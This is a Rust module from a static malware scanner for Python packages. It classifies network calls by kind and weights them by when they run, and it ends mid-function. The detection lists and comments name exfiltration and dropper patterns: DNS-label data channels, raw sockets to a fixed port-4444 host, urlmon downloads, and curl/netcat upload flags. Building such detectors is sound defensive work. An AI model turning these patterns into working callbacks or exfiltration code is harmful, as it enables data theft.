//! WH130 network: HTTP, sockets, mail, FTP and DNS.

use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH130",
    name: "network",
    description: "Opens a network connection or sends a request (requests, urllib, http.client, socket, smtplib, DNS)",
    rationale: "Malware needs the network to fetch a second stage or to send what it stole. Libraries \
                use the network when called, which weighs little; a package that talks to the \
                network while being installed or imported is rare and weighs much more.",
    category: Category::Sink,
};

const HTTP_VERBS: &[&str] = &[
    "get", "post", "put", "patch", "delete", "head", "request", "options",
];

/// A host name whose leading labels are computed (`…`) under a fixed registered domain of at
/// least two labels: `….….t.example-dns.net`. A name computed whole (`…`), or the machine's own
/// name under a local suffix (`….local`), names no outside server.
fn carries_data_in_labels(name: &str) -> bool {
    let Some((computed, domain)) = name.rsplit_once(crate::fold::UNKNOWN) else {
        return false;
    };
    let domain = domain.trim_start_matches('.');
    let labels: Vec<&str> = domain.split('.').filter(|l| !l.is_empty()).collect();
    let local = labels
        .last()
        .is_some_and(|tld| matches!(*tld, "local" | "localhost" | "internal" | "lan" | "home"));
    // At least two computed pieces (`{chunk}.{n}`) say data is being spelled out.
    computed.matches(crate::fold::UNKNOWN).count() >= 1
        && labels.len() >= 2
        && !local
        && !domain.contains(crate::fold::UNKNOWN)
}

/// `URLDownloadToFileW` and its variants: urlmon's download of a URL (second argument) to a
/// path (third).
fn is_urlmon_download(function: &str) -> bool {
    matches!(
        function,
        "URLDownloadToFileW" | "URLDownloadToFileA" | "URLDownloadToFile"
    )
}

/// Network operations and whether they send data (as opposed to only fetching).
pub fn classify(qualname: &str) -> Option<NetOp> {
    let (base, last) = qualname.rsplit_once('.').unwrap_or(("", qualname));
    // Windows' own downloader, reached through ctypes (`windll.urlmon.URLDownloadToFileW(0,
    // url, path, 0, 0)`): a program fetched to disk by the system, as droppers do.
    if is_urlmon_download(last) {
        return Some(NetOp::Fetch);
    }
    let op = match base {
        "requests"
        | "requests.api"
        | "httpx"
        | "requests.Session()"
        | "requests.session()"
        | "httpx.Client()"
        | "httpx.AsyncClient()"
        | "urllib3.PoolManager()"
        | "aiohttp.ClientSession()"
        // Drop-in clients with requests' API: Cloudflare-evading, browser-impersonating.
        | "cloudscraper.create_scraper()"
        | "cloudscraper.CloudScraper()"
        | "curl_cffi.requests"
        | "curl_cffi.requests.Session()"
        | "curl_cffi.requests.AsyncSession()"
        | "niquests"
        | "niquests.Session()"
        | "requests_html.HTMLSession()"
            if HTTP_VERBS.contains(&last) || last == "stream" =>
        {
            if matches!(last, "post" | "put" | "patch") {
                NetOp::Send
            } else {
                NetOp::Fetch
            }
        }
        "urllib.request" | "urllib2" | "urllib" | "six.moves.urllib.request" => match last {
            "urlopen" | "urlretrieve" | "Request" | "build_opener" => NetOp::Fetch,
            _ => return None,
        },
        "http.client" | "httplib" => match last {
            "HTTPConnection" | "HTTPSConnection" => NetOp::Fetch,
            _ => return None,
        },
        "socket" => match last {
            "create_connection" => NetOp::Send,
            "gethostbyname" | "gethostbyname_ex" | "getaddrinfo" => NetOp::Dns,
            _ => return None,
        },
        "smtplib" => match last {
            "SMTP" | "SMTP_SSL" => NetOp::Send,
            _ => return None,
        },
        // What a mail or FTP session is handed leaves the machine.
        "smtplib.SMTP()" | "smtplib.SMTP_SSL()" => match last {
            "sendmail" | "send_message" => NetOp::Send,
            _ => return None,
        },
        "ftplib.FTP()" | "ftplib.FTP_TLS()" => match last {
            "storbinary" | "storlines" => NetOp::Send,
            _ => return None,
        },
        "telnetlib.Telnet()" if last == "write" => NetOp::Send,
        // An XML-RPC proxy's every method is a call on the server, its arguments the body.
        "xmlrpc.client.ServerProxy()" | "xmlrpclib.ServerProxy()" if !last.starts_with('_') => {
            NetOp::Send
        }
        "xmlrpc.client" | "xmlrpclib" if last == "ServerProxy" => NetOp::Fetch,
        // asyncio's streams: `reader, writer = await asyncio.open_connection(host, port)`.
        "asyncio" if last == "open_connection" => NetOp::Send,
        "asyncio.StreamWriter()" if matches!(last, "write" | "writelines") => NetOp::Send,
        // `requests.Request(method, url, …)` is the request `Session().send` sends once prepared.
        "requests" if last == "Request" => NetOp::Fetch,
        "ftplib" | "telnetlib" | "paramiko" | "pysftp" => match last {
            "FTP" | "FTP_TLS" | "Telnet" | "SSHClient" | "Connection" => NetOp::Send,
            _ => return None,
        },
        "dns.resolver" | "dns.resolver.Resolver()" => match last {
            "resolve" | "query" => NetOp::Dns,
            _ => return None,
        },
        "http.client.HTTPConnection()"
        | "http.client.HTTPSConnection()"
        | "httplib.HTTPConnection()"
        | "httplib.HTTPSConnection()" => match last {
            "request" | "putrequest" => NetOp::Fetch,
            "send" => NetOp::Send,
            _ => return None,
        },
        "aiohttp" if last == "ClientSession" => NetOp::Fetch,
        // `aiohttp.request(method, url, …)`, and the other clients' request calls (a body
        // makes any of them a send, see `carries_body`).
        "aiohttp" if last == "request" => NetOp::Fetch,
        "tornado.httpclient.HTTPClient()" | "tornado.httpclient.AsyncHTTPClient()"
            if last == "fetch" =>
        {
            NetOp::Fetch
        }
        "urllib3.HTTPSConnectionPool()"
        | "urllib3.HTTPConnectionPool()"
        | "urllib3.connection_from_url()"
            if matches!(last, "urlopen" | "request") =>
        {
            NetOp::Fetch
        }
        "httplib2.Http()" if last == "request" => NetOp::Fetch,
        // A mail store's `append` files the message on the server.
        "imaplib" if matches!(last, "IMAP4" | "IMAP4_SSL") => NetOp::Fetch,
        "imaplib.IMAP4()" | "imaplib.IMAP4_SSL()" if last == "append" => NetOp::Send,
        // urllib3 2's module-level `request(method, url, body=…)`.
        "urllib3" if last == "request" => NetOp::Fetch,
        // The browser requests the page: what the address carries reaches its server.
        "webbrowser" if matches!(last, "open" | "open_new" | "open_new_tab") => NetOp::Fetch,
        // Chat and storage clients: what they are given leaves the machine.
        "telebot.TeleBot()" | "telegram.Bot()" | "aiogram.Bot()"
            if last.starts_with("send_") || last == "forward_message" =>
        {
            NetOp::Send
        }
        "dropbox.Dropbox()" if last.starts_with("files_upload") => NetOp::Send,
        // libcurl's body options: what `setopt(POSTFIELDS, data)` is given is posted by
        // `perform()` (other options are told apart in `check_call`).
        "pycurl.Curl()" if last == "setopt" => NetOp::Send,
        "pycurl.Curl()" if last == "perform" => NetOp::Fetch,
        // File transfer and cloud storage clients handed a local path upload that file.
        _ if uploads_local_path(base, last) => NetOp::Send,
        // A document database's client writes what it is given to its (remote) server.
        "pymongo" | "motor.motor_asyncio"
            if matches!(last, "MongoClient" | "AsyncIOMotorClient") =>
        {
            NetOp::Fetch
        }
        _ if (base.starts_with("pymongo.MongoClient()")
            || base.starts_with("motor.motor_asyncio.AsyncIOMotorClient()"))
            && matches!(
                last,
                "insert_one" | "insert_many" | "replace_one" | "update_one" | "update_many"
            ) =>
        {
            NetOp::Send
        }
        "wget" | "gdown" if last == "download" => NetOp::Fetch,
        // Message buses and stores a client writes to: what it publishes leaves the machine.
        "socketio.Client()" | "socketio.AsyncClient()" => match last {
            "emit" | "send" | "call" => NetOp::Send,
            "connect" => NetOp::Fetch,
            _ => return None,
        },
        "paho.mqtt.client.Client()" => match last {
            "publish" => NetOp::Send,
            "connect" | "connect_async" => NetOp::Fetch,
            _ => return None,
        },
        _ if base.starts_with("zmq.Context()")
            && matches!(
                last,
                "send" | "send_string" | "send_json" | "send_pyobj" | "send_multipart"
            ) =>
        {
            NetOp::Send
        }
        _ if (base.starts_with("redis.Redis()")
            || base.starts_with("redis.StrictRedis()")
            || base.starts_with("redis.from_url()"))
            && matches!(
                last,
                "set" | "setex" | "mset" | "hset" | "lpush" | "rpush" | "publish" | "xadd"
            ) =>
        {
            NetOp::Send
        }
        // Hosted stores and messaging APIs through their SDKs: rows appended, records
        // inserted, files committed, messages and files sent.
        _ if base.starts_with("gspread.")
            && matches!(
                last,
                "append_row" | "append_rows" | "insert_row" | "insert_rows" | "update" | "update_cell" | "update_acell"
            ) =>
        {
            NetOp::Send
        }
        _ if base.starts_with("supabase.create_client()")
            && matches!(last, "insert" | "upsert" | "update") =>
        {
            NetOp::Send
        }
        _ if base.starts_with("github.Github()")
            && matches!(
                last,
                "create_file" | "update_file" | "create_issue" | "create_gist" | "create_git_blob"
            ) =>
        {
            NetOp::Send
        }
        "telethon.TelegramClient()" | "telethon.sync.TelegramClient()" | "pyrogram.Client()"
            if last.starts_with("send_") =>
        {
            NetOp::Send
        }
        "twilio.rest.Client().messages" if last == "create" => NetOp::Send,
        // (Its `files_upload*` are uploads of a local path, above.)
        "slack_sdk.WebClient()" | "slack.WebClient()" if last.starts_with("chat_") => {
            NetOp::Send
        }
        _ if base.starts_with("boto3.")
            && matches!(
                last,
                "put_object"
                    | "upload_fileobj"
                    | "send_email"
                    | "send_raw_email"
                    | "send_message"
                    | "publish"
            ) =>
        {
            NetOp::Send
        }
        // Azure Storage and messaging, Google Cloud Storage and Pub/Sub: blobs uploaded,
        // messages sent.
        _ if base.starts_with("azure.storage.")
            && matches!(
                last,
                "upload_blob" | "upload_file" | "upload_data" | "append_data" | "stage_block"
            ) =>
        {
            NetOp::Send
        }
        _ if (base.starts_with("azure.servicebus") || base.starts_with("azure.eventhub"))
            && matches!(last, "send_messages" | "send_batch" | "send_event") =>
        {
            NetOp::Send
        }
        _ if base.starts_with("google.cloud.storage")
            && matches!(last, "upload_from_string" | "upload_from_file") =>
        {
            NetOp::Send
        }
        _ if base.starts_with("google.cloud.pubsub") && last == "publish" => NetOp::Send,
        // Client-server SQL databases: a statement's parameters travel to the server
        // (SQLite is a local file and is not among them).
        _ if is_sql_server_client(base) && matches!(last, "execute" | "executemany") => {
            NetOp::Send
        }
        "psycopg2" | "psycopg" | "pymysql" | "MySQLdb" | "mysql.connector" | "pg8000"
        | "asyncpg" | "pymssql" | "cx_Oracle" | "oracledb"
            if last == "connect" =>
        {
            NetOp::Fetch
        }
        // Message brokers and mail APIs: what is published or sent leaves the machine.
        "kafka.KafkaProducer()" if last == "send" => NetOp::Send,
        "confluent_kafka.Producer()" if last == "produce" => NetOp::Send,
        _ if base.starts_with("pika.BlockingConnection()") && last == "basic_publish" => {
            NetOp::Send
        }
        "sendgrid.SendGridAPIClient()" | "sendgrid.SendGridAPIClient().client.mail.send"
            if matches!(last, "send" | "post") =>
        {
            NetOp::Send
        }
        // Scapy puts hand-built packets on the wire: an ICMP or DNS packet's payload is data
        // sent like any other.
        "scapy.all" | "scapy.sendrecv" | "scapy.layers.inet"
            if matches!(
                last,
                "send" | "sendp" | "sr" | "sr1" | "srp" | "srp1" | "sendpfast"
            ) =>
        {
            NetOp::Send
        }
        _ if service_client_send(base, last) => NetOp::Send,
        "discord_webhook.DiscordWebhook()" if last == "execute" => NetOp::Send,
        "dhooks.Webhook()" if last == "send" => NetOp::Send,
        // Cloning a repository downloads code as surely as an HTTP GET.
        "git.Repo" | "git.repo.Repo" if last == "clone_from" => NetOp::Fetch,
        "pygit2" if last == "clone_repository" => NetOp::Fetch,
        "dulwich.porcelain" if last == "clone" => NetOp::Fetch,
        "websocket" | "websockets" if matches!(last, "create_connection" | "connect") => {
            NetOp::Send
        }
        // `async with websockets.connect(url) as ws: await ws.send(data)`.
        "websocket.create_connection()"
        | "websockets.connect()"
        | "websockets.client.connect()"
        | "websocket.WebSocket()"
            if matches!(last, "send" | "send_text" | "send_binary") =>
        {
            NetOp::Send
        }
        // Plain sockets and sockets wrapped by ssl (`context.wrap_socket(s).connect(...)`).
        _ if (base.starts_with("socket.socket()")
            || base.contains("wrap_socket()")
            || base.starts_with("socket.create_connection()"))
            && matches!(
                last,
                "connect" | "connect_ex" | "send" | "sendall" | "sendto"
            ) =>
        {
            NetOp::Send
        }
        _ => return None,
    };
    Some(op)
}

/// A cursor or connection of a client-server SQL database driver
/// (`psycopg2.connect(host=…).cursor()`), whose statements run on a remote server.
fn is_sql_server_client(base: &str) -> bool {
    [
        "psycopg2.connect()",
        "psycopg.connect()",
        "pymysql.connect()",
        "MySQLdb.connect()",
        "mysql.connector.connect()",
        "pg8000.connect()",
        "asyncpg.connect()",
        "pymssql.connect()",
        "cx_Oracle.connect()",
        "oracledb.connect()",
    ]
    .iter()
    .any(|client| base.starts_with(client))
}

/// Downloaders that save to a file and return its path (`wget.download(url)`).
pub fn returns_downloaded_path(qualname: &str) -> bool {
    matches!(qualname, "wget.download" | "gdown.download")
}

/// True for a client method that uploads the local file whose path it is given first:
/// SFTP and SCP `put`, S3's `upload_file`, Google Cloud Storage's `upload_from_filename`.
fn uploads_local_path(base: &str, last: &str) -> bool {
    let sftp = base.ends_with("open_sftp()")
        || base.contains("SFTPClient")
        || base.starts_with("pysftp.Connection()")
        || base.starts_with("scp.SCPClient()")
        || base.starts_with("fabric.Connection()");
    (sftp && matches!(last, "put" | "put_r" | "put_d"))
        || (base.starts_with("boto3.") && last == "upload_file")
        || (base.starts_with("mega.Mega()") && last == "upload")
        || (base == "yagmail.SMTP()" && last == "send")
        || (base.ends_with("WebClient()") && last.starts_with("files_upload"))
        || (is_chat_client(base) && matches!(last, "send_file" | "send_document"))
        || (base.starts_with("google.cloud.storage") && last == "upload_from_filename")
}

/// Telegram user and bot clients, whose `send_file(chat, path)` uploads a local file.
fn is_chat_client(base: &str) -> bool {
    matches!(
        base,
        "telethon.TelegramClient()"
            | "telethon.sync.TelegramClient()"
            | "pyrogram.Client()"
            | "telebot.TeleBot()"
    )
}

/// The local file a path-taking upload (see [`uploads_local_path`]) sends, as the path folds.
pub fn uploaded_path(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
    let (base, last) = qualname.rsplit_once('.')?;
    if !uploads_local_path(base, last) {
        return None;
    }
    // Mail and chat uploads name their files by keyword (`attachments=[…]`, `file=…`).
    let path = match last {
        "send_file" | "send_document" => call
            .arguments
            .args
            .get(1)
            .or_else(|| super::keyword(call, "file"))
            .or_else(|| super::keyword(call, "document"))?,
        "send" => super::keyword(call, "attachments")?,
        _ if last.starts_with("files_upload") => super::keyword(call, "file")?,
        _ => call.arguments.args.first().or_else(|| {
            ["localpath", "Filename", "filename", "files"]
                .into_iter()
                .find_map(|name| super::keyword(call, name))
        })?,
    };
    let path = match path {
        ruff_python_ast::Expr::List(list) => list.elts.first()?,
        ruff_python_ast::Expr::Tuple(tuple) => tuple.elts.first()?,
        other => other,
    };
    super::partial_text(checker, path)
}

/// `curl.setopt(pycurl.POSTFIELDS, data)` and the other options that give libcurl a body to
/// send; `setopt(pycurl.URL, …)` and the rest only configure the request.
fn sets_curl_body(checker: &Checker, call: &ExprCall) -> bool {
    call.arguments
        .args
        .first()
        .and_then(|option| checker.qualname(option))
        .is_some_and(|option| {
            let name = option.rsplit('.').next().unwrap_or(&option);
            matches!(
                name,
                "POSTFIELDS"
                    | "COPYPOSTFIELDS"
                    | "HTTPPOST"
                    | "MIMEPOST"
                    | "READDATA"
                    | "READFUNCTION"
            )
        })
}

/// Weight of a fetch of the package index's metadata (see [`is_index_metadata_url`]).
const INDEX_METADATA_WEIGHT: f64 = 0.15;

/// True for PyPI's JSON API or simple index (`https://pypi.org/pypi/setuptools/json`,
/// `https://pypi.python.org/simple/x/`): what a project's release is, not a file to run.
fn is_index_metadata_url(url: &str) -> bool {
    let Some(rest) = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
    else {
        return false;
    };
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    matches!(
        host.to_ascii_lowercase().as_str(),
        "pypi.org" | "pypi.python.org" | "test.pypi.org"
    ) && ((path.starts_with("pypi/") && path.trim_end_matches('/').ends_with("/json"))
        || path.starts_with("simple/"))
}

/// True for a URL to this machine (`http://127.0.0.1:8000/`, `http://localhost/`).
pub(super) fn is_loopback_url(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let host = rest.split(['/', '?']).next().unwrap_or(rest);
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    host.starts_with("127.")
        || host.starts_with("localhost")
        || host.starts_with("0.0.0.0")
        || host.starts_with("[::1]")
}

/// True when a partially folded URL names its host literally (`"http://x.example/" + data`).
pub fn has_constant_host(url: &str) -> bool {
    let Some(rest) = url.split_once("://").map(|(_, rest)| rest) else {
        return false;
    };
    let host: String = rest
        .chars()
        .take_while(|c| !matches!(c, '/' | ':' | '?'))
        .collect();
    host.contains('.') && !host.contains(crate::fold::UNKNOWN)
}

/// The argument naming where a network call goes: the first, or `url=`; for the generic
/// `request(method, url, ...)` of HTTP clients, the second.
pub fn target_arg(call: &ExprCall) -> Option<&ruff_python_ast::Expr> {
    let positional = if is_generic_request(call) { 1 } else { 0 };
    call.arguments
        .args
        .get(positional)
        .or_else(|| super::keyword(call, "url"))
}

/// `x.request(...)`: the HTTP clients' call that takes the method as an argument.
fn is_generic_request(call: &ExprCall) -> bool {
    matches!(&*call.func, ruff_python_ast::Expr::Attribute(a) if a.attr.as_str() == "request")
}

/// True when a request call is given a body (`body=`, `data=`, `json=`, `files=`): whatever
/// its method, the body is sent.
fn carries_body(call: &ExprCall) -> bool {
    ["body", "data", "json", "files"]
        .iter()
        .any(|k| super::keyword(call, k).is_some())
}

/// True when a generic `request(...)` names an uploading method (first argument or
/// `method=`): POST, PUT or PATCH.
fn request_method_uploads(checker: &Checker, call: &ExprCall) -> bool {
    call.arguments
        .args
        .first()
        .or_else(|| super::keyword(call, "method"))
        .and_then(|m| checker.scopes.fold_str(m))
        .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH"))
}

/// `urlopen(url, data)`, `Request(url, data=…)`: urllib posts whatever body it is given.
fn urllib_carries_body(qualname: &str, call: &ExprCall) -> bool {
    let Some((module, function)) = qualname.rsplit_once('.') else {
        return false;
    };
    if !matches!(
        module,
        "urllib.request" | "urllib2" | "urllib" | "six.moves.urllib.request"
    ) || !matches!(function, "urlopen" | "Request")
    {
        return false;
    }
    call.arguments
        .args
        .get(1)
        .or_else(|| super::keyword(call, "data"))
        .is_some_and(|body| !body.is_none_literal_expr())
}

/// What a network call does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NetOp {
    /// Downloads or requests.
    Fetch,
    /// Sends data out.
    Send,
    /// Resolves a name (which can carry data out too).
    Dns,
}

/// `TCPServer(('0.0.0.0', 8000), SimpleHTTPRequestHandler)`: a file server on every
/// interface, handing anyone who connects whatever lies under the working directory. A
/// developer starts one by hand (`python -m http.server`); a package loading or installing
/// has no business exposing the machine's files.
fn check_file_server(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !matches!(
        qualname,
        "http.server.HTTPServer"
            | "http.server.ThreadingHTTPServer"
            | "socketserver.TCPServer"
            | "socketserver.ThreadingTCPServer"
            | "SocketServer.TCPServer"
            | "BaseHTTPServer.HTTPServer"
    ) {
        return;
    }
    let (Some(address), Some(handler)) = (call.arguments.args.first(), call.arguments.args.get(1))
    else {
        return;
    };
    let handler = match handler {
        ruff_python_ast::Expr::Call(partial)
            if checker.qualname(&partial.func).as_deref() == Some("functools.partial") =>
        {
            partial.arguments.args.first()
        }
        other => Some(other),
    };
    let serves_files = handler.and_then(|h| checker.qualname(h)).is_some_and(|h| {
        h.ends_with("SimpleHTTPRequestHandler") || h.ends_with("CGIHTTPRequestHandler")
    });
    let host = match address {
        ruff_python_ast::Expr::Tuple(tuple) => tuple
            .elts
            .first()
            .and_then(|host| checker.fold(host))
            .and_then(|v| v.as_text()),
        _ => None,
    };
    if !serves_files || !matches!(host.as_deref(), Some("" | "0.0.0.0" | "::")) {
        return;
    }
    let context = checker.context();
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.75,
        ExecContext::Runtime => 0.05,
        ExecContext::TestOrDocs => 0.01,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} serves the files under the working directory to every network interface {}",
            context.phrase()
        ),
        severity,
        vec!["network", "file-server"],
    );
}

/// Clients of other network services, made with the address they talk to, and the methods
/// that put data on that service: a cache entry, a search-index document, a broker message, a
/// chat or notification, a relay event, a file on a remote share. Whoever runs the service
/// reads what is written there, so each is a send as a request body is.
const SERVICE_CLIENT_SENDS: &[(&str, &[&str])] = &[
    (
        "pymemcache.client.base.Client()",
        &["set", "set_many", "add", "append", "replace"],
    ),
    (
        "pymemcache.client.hash.HashClient()",
        &["set", "set_many", "add", "append", "replace"],
    ),
    (
        "pymemcache.Client()",
        &["set", "set_many", "add", "append", "replace"],
    ),
    ("memcache.Client()", &["set", "set_multi", "add", "append"]),
    ("bmemcached.Client()", &["set", "set_multi", "add"]),
    ("nats.connect()", &["publish", "request"]),
    ("icmplib.ICMPv4Socket()", &["send"]),
    ("icmplib.ICMPv6Socket()", &["send"]),
    ("tftpy.TftpClient()", &["upload"]),
    (
        "webdav4.client.Client()",
        &["upload_fileobj", "upload_file"],
    ),
    (
        "webdav3.client.Client()",
        &["upload_sync", "upload_to", "upload"],
    ),
    (
        "elasticsearch.Elasticsearch()",
        &["index", "create", "bulk", "update"],
    ),
    (
        "elasticsearch.AsyncElasticsearch()",
        &["index", "create", "bulk", "update"],
    ),
    (
        "opensearchpy.OpenSearch()",
        &["index", "create", "bulk", "update"],
    ),
    ("apprise.Apprise()", &["notify", "async_notify"]),
    ("pyairtable.Api().table()", &["create", "batch_create"]),
    ("pyairtable.Table()", &["create", "batch_create"]),
    (
        "pynostr.relay_manager.RelayManager()",
        &["publish_event", "publish_message"],
    ),
    ("slixmpp.ClientXMPP()", &["send_message"]),
    ("sleekxmpp.ClientXMPP()", &["send_message"]),
    ("xmpp.Client()", &["send"]),
    ("irc.client.ServerConnection()", &["privmsg"]),
    ("smbclient", &["open_file"]),
];

/// `s.connect(('198.51.100.23', 4444))`, `socket.create_connection(('c2.example', 443))`:
/// remembers the host a raw socket talks to when the code fixes it. What such a socket
/// receives is what that host's owner sends.
fn note_socket_peer(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if checker.fixed_socket_peer.is_some()
        || !matches!(
            qualname,
            "socket.socket().connect" | "socket.socket().connect_ex" | "socket.create_connection"
        )
    {
        return;
    }
    let Some(ruff_python_ast::Expr::Tuple(address)) = call.arguments.args.first() else {
        return;
    };
    let Some(host) = address.elts.first() else {
        return;
    };
    // `def connect(host='198.51.100.23', port=4444)`: a peer nobody passes is the default.
    let host = match host {
        ruff_python_ast::Expr::Name(name) if checker.fold(host).is_none() => {
            checker.parameter_default(name.id.as_str())
        }
        _ => Some(host),
    };
    let Some(host) = host
        .and_then(|host| checker.fold(host))
        .and_then(|host| host.as_text())
    else {
        return;
    };
    let host = host.trim().to_ascii_lowercase();
    if host.is_empty() || is_loopback_url(&format!("tcp://{host}/")) {
        return;
    }
    checker.fixed_socket_peer = Some(host);
}

/// True when an `open`-like call's mode (second argument or `mode=`) writes, appends or
/// creates, or is computed; the default mode reads.
fn opens_for_writing(checker: &Checker, call: &ExprCall) -> bool {
    let Some(mode) = super::mode_argument(call) else {
        return false;
    };
    // A mode the code computes may write.
    checker
        .fold(mode)
        .and_then(|mode| mode.as_text())
        .is_none_or(|mode| mode.contains(['w', 'a', 'x', '+']))
}

/// True when `last` puts data on the service of a client listed in [`SERVICE_CLIENT_SENDS`].
fn service_client_send(base: &str, last: &str) -> bool {
    SERVICE_CLIENT_SENDS
        .iter()
        .any(|(client, methods)| *client == base && methods.contains(&last))
}

/// The weight of a network call: sends most, then fetches from an address the code fixes,
/// each by when it runs.
pub(super) fn call_severity(context: ExecContext, op: NetOp, constant_target: bool) -> f64 {
    match (context, op) {
        (ExecContext::Install, NetOp::Send) => 0.6,
        (ExecContext::Install, _) if constant_target => 0.5,
        (ExecContext::Install, _) => 0.25,
        (ExecContext::Import, NetOp::Send) => 0.45,
        (ExecContext::Import, _) if constant_target => 0.35,
        (ExecContext::Import, _) => 0.2,
        (ExecContext::Runtime, NetOp::Send) => 0.04,
        (ExecContext::Runtime, _) => 0.03,
        (ExecContext::TestOrDocs, _) => 0.01,
    }
}

/// Network calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    check_file_server(checker, call, qualname);
    note_socket_peer(checker, call, qualname);
    let Some(mut op) = classify(qualname) else {
        return;
    };
    if qualname.starts_with("socket.socket()") && checker.on_local_socket(call) {
        return;
    }
    if qualname == "pycurl.Curl().setopt" && !sets_curl_body(checker, call) {
        return;
    }
    // `smbclient.open_file(path)` opens for reading unless its mode writes: only then does the
    // share receive anything.
    if qualname == "smbclient.open_file" && !opens_for_writing(checker, call) {
        op = NetOp::Fetch;
    }
    let prepared = qualname == "requests.Request";
    // `fetch(url, method='POST', body=…)`, `pool.urlopen('POST', path, body=…)`,
    // `request('PUT', url)`, `urlopen(url, data)`: the request sends.
    let generic = (qualname.ends_with(".request") && is_generic_request(call)) || prepared;
    if op == NetOp::Fetch
        && ((carries_body(call) && !qualname.starts_with("webbrowser."))
            || (generic && request_method_uploads(checker, call))
            || urllib_carries_body(qualname, call))
    {
        op = NetOp::Send;
    }
    // A browser sent to an address whose host is computed (`http://%s:%s' % (hostname, port)`)
    // is shown a server of this machine; only a named remote host receives what the address
    // carries.
    if qualname.starts_with("webbrowser.")
        && !target_arg(call)
            .and_then(|target| super::partial_text(checker, target))
            .is_some_and(|url| has_constant_host(&url) && !is_loopback_url(&url))
    {
        return;
    }
    let context = checker.context();
    // Droppers contact a fixed address; build scripts download from URLs they compute from
    // versions and platforms, so a computed target at install time weighs less.
    // A socket's `send`/`sendall` take the data, `sendto` the data then the address.
    let target_arg = match qualname.rsplit('.').next() {
        Some("send" | "sendall") if qualname.contains("socket") => None,
        Some("sendto") if qualname.contains("socket") => call.arguments.args.get(1),
        Some(function) if is_urlmon_download(function) => call.arguments.args.get(1),
        // `requests.Request(method, url, …)`, as the generic `request(method, url, …)`.
        _ if prepared => call
            .arguments
            .args
            .get(1)
            .or_else(|| super::keyword(call, "url")),
        // httplib2's `request(uri, method, body)` names the address first.
        _ if qualname.starts_with("httplib2.") => call
            .arguments
            .args
            .first()
            .or_else(|| super::keyword(call, "uri")),
        _ => target_arg(call),
    };
    // `getaddrinfo(f"{chunk}.{n}.t.example-dns.net")`: labels computed under a fixed domain
    // carry data to that domain's name server, as a request body would.
    if op == NetOp::Dns
        && target_arg
            .and_then(|target| super::partial_text(checker, target))
            .is_some_and(|name| carries_data_in_labels(&name))
    {
        op = NetOp::Send;
    }
    let constant_target = target_arg.is_some_and(|a| {
        checker.fold(a).is_some()
            || checker
                .scopes
                .fold_lossy(a)
                .is_some_and(|url| has_constant_host(&url))
    }) || matches!(op, NetOp::Send | NetOp::Dns);
    let asks_index = op == NetOp::Fetch
        && target_arg
            .and_then(|target| checker.fold(target))
            .and_then(|url| url.as_text())
            .is_some_and(|url| is_index_metadata_url(&url));
    let severity = if asks_index {
        // ez_setup.py asking PyPI's JSON API for setuptools' latest version: metadata from
        // the index pip itself trusts, read, not run (a download that is run counts as such).
        INDEX_METADATA_WEIGHT.min(call_severity(context, op, constant_target))
    } else {
        call_severity(context, op, constant_target)
    };
    let verb = match op {
        NetOp::Fetch => "fetches with",
        NetOp::Send => "sends data with",
        NetOp::Dns => "resolves a host name with",
    };
    let target = super::argument_text(checker, call);
    let tag = match op {
        NetOp::Fetch => "net-fetch",
        NetOp::Send => "net-send",
        NetOp::Dns => "net-dns",
    };
    let mut tags = vec!["network", tag];
    let mut severity = severity;
    if op == NetOp::Fetch && fetches_source_archive(&target) {
        tags.push("source-fetch");
        severity = severity.min(SOURCE_FETCH_WEIGHT);
    }
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{verb} {qualname}({}) {}",
            crate::text::shorten(&target, 120),
            context.phrase()
        ),
        severity,
        tags,
    );
    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Network);
    if op == NetOp::Send {
        super::data_flow::check_silent_credential_send(checker, call, target_arg);
        super::data_flow::check_labelled_credential_send(checker, call, target_arg);
    }
    let saved_to = if qualname.ends_with("urlretrieve") {
        call.arguments
            .args
            .get(1)
            .or_else(|| super::keyword(call, "filename"))
    } else if qualname.rsplit('.').next().is_some_and(is_urlmon_download) {
        call.arguments.args.get(2)
    } else {
        None
    };
    if let Some(path) = saved_to.map(|path| checker.path_of(path)) {
        let what = format!(
            "the download of {}",
            crate::text::shorten(&target_text(checker, target_arg), 100)
        );
        checker.note_saved_file(&path, what, call.range());
    }
    if let Some(target) = target_arg {
        super::data_flow::check_destination_from_response(checker, call, target);
    }
    // The endpoint may only be visible once folded: `b64decode(URL)`, f-strings with a token.
    if let Some(target) = target_arg
        && !matches!(target, ruff_python_ast::Expr::StringLiteral(_))
        && let Some(url) = super::partial_text(checker, target)
    {
        super::suspicious_endpoint::check_string(checker, &url, call.range());
        check_hidden_target(checker, call, target, &url, context, op);
    }
}

/// The target of a network call as far as it folds, for messages.
fn target_text(checker: &Checker, target: Option<&ruff_python_ast::Expr>) -> String {
    target
        .and_then(|t| super::partial_text(checker, t))
        .unwrap_or_else(|| "a computed address".to_owned())
}

/// A process running a network tool (`curl`, `wget`, `nc`): a network call like any other,
/// weighed by context; uploads (`-F`, `-d`, `--data`, `-T`, `--upload-file`) are sends.
pub fn check_tool_call(checker: &mut Checker, call: &ExprCall, command: &str) {
    let Some(tool) = super::process_spawn::network_tool(command) else {
        return;
    };
    static CURL_UPLOAD: std::sync::LazyLock<regex::Regex> = crate::static_regex!(
        r#"\s(-[FdT]|--data[a-z-]*|--form|--upload-file|--post-(data|file))(\s|=|"|')"#
    );
    static POWERSHELL_UPLOAD: std::sync::LazyLock<regex::Regex> =
        crate::static_regex!(r"(?i)\s-(method\s+(post|put)|infile|body)\b");
    let upload = match tool {
        "netcat" | "git push" => true,
        "PowerShell" => POWERSHELL_UPLOAD.is_match(command),
